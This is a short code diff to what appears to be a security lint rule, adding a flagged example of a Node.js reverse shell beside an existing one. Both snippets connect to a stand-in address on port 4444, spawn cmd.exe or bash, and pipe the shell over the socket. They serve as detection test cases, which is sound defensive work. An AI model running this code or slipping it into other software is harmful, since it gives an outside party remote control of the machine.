@@ -13,6 +13,10 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'a shell answers a socket',
+        code: `const socket = require('net').connect(4444, '192.0.2.1');\nconst shell = require('child_process').spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash');\nshell.stdout.pipe(socket);\nsocket.on('data', line => shell.stdin.write(line));`,
+      },
+      {
         title: 'a socket is piped into a shell',
         code: `const net = require('net'), { spawn } = require('child_process');\nconst client = new net.Socket();\nclient.connect(4444, '192.0.2.1', () => {\n  const sh = spawn('/bin/sh', []);\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});`,
       },
